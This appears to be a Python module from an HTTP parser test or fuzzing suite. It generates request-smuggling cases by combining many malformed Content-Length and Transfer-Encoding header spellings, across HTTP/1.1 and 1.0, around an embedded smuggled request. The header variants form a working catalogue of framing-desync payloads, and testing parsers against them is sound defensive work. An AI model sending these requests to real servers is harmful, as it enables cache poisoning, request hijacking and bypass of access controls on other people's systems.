"""Every pair of a spelling of Content-Length and one of Transfer-Encoding, in both versions, around contents that hold
a request where one of the two is believed."""

from ..case import SMUGGLED, Case, post, printable

LENGTHS = [
    b"", b"Content-Length: %d", b"content-length:%d", b"Content-Length: +%d", b"Content-Length: -%d",
    b"Content-Length: 0%d", b"Content-Length: %d, %d", b"Content-Length: %d\r\nContent-Length: %d",
    b"Content-Length: 0\r\nContent-Length: %d", b"Content-Length: %d\r\nContent-Length: 0", b"Content-Length: %d,",
    b"Content-Length: ,%d", b"Content-Length: \"%d\"", b"Content-Length: %d ;", b"Content-Length : %d",
    b"Content-Length:\r\n %d", b"Content_Length: %d", b"Content-Length: 0x%x", b"Content-Length: %d.0",
    b"Content-Length:\t%d\t", b"Content-Length: 4294967296%d", b"Content-Length: 1844674407370955161%d",
    b"Content-Length:", b"Content-Length: %d\0", b"Content-Length: %de0", b"Content-Length: %d 0",
    b"X: y\nContent-Length: %d"
]
CODINGS = [
    b"", b"Transfer-Encoding: chunked", b"transfer-encoding:CHUNKED", b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: identity",
    b"Transfer-Encoding: gzip, chunked", b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked,", b"Transfer-Encoding: \"chunked\"", b"Transfer-Encoding: chunked;a=b",
    b"Transfer-Encoding : chunked", b"Transfer-Encoding:\r\n chunked", b" Transfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x", b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked", b"Transfer-Encoding:\x0bchunked", b"Transfer-Encoding:\tchunked\t",
    b"Transfer-Encoding:", b"X: y\nTransfer-Encoding: chunked", b"X: y\rTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\0"
]
IN_CHUNK = b"%x\r\n%b\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED)
SHAPES = {"short": (b"0\r\n\r\n" + SMUGGLED, len(SMUGGLED) + 5), "long": (IN_CHUNK, 4)}
"""Contents, and the length that is stated: chunks that end before it, and a length that ends before the chunks."""


def cases() -> list[Case]:
    made = []
    for shape, (content, length) in SHAPES.items():
        for spelling in LENGTHS:
            for coding in CODINGS:
                for version in (b"1.1", b"1.0"):
                    # A framing that only the other version has does not get better by a second one.
                    if version == b"1.0" and spelling and coding and spelling != LENGTHS[1] and coding != CODINGS[1]:
                        continue
                    lines = [
                        line
                        for line in (spelling.replace(b"%d", b"%d" % length).replace(b"%x", b"%x" % length), coding)
                        if line
                    ]
                    if version == b"1.0":
                        lines.append(b"Connection: keep-alive")
                    name = " ".join(printable(part) or "-" for part in (version, spelling, coding)) + f" {shape}"
                    data = post(*lines, version=b"HTTP/" + version, content=content)
                    made.append(Case("framings", name, data))
    return made
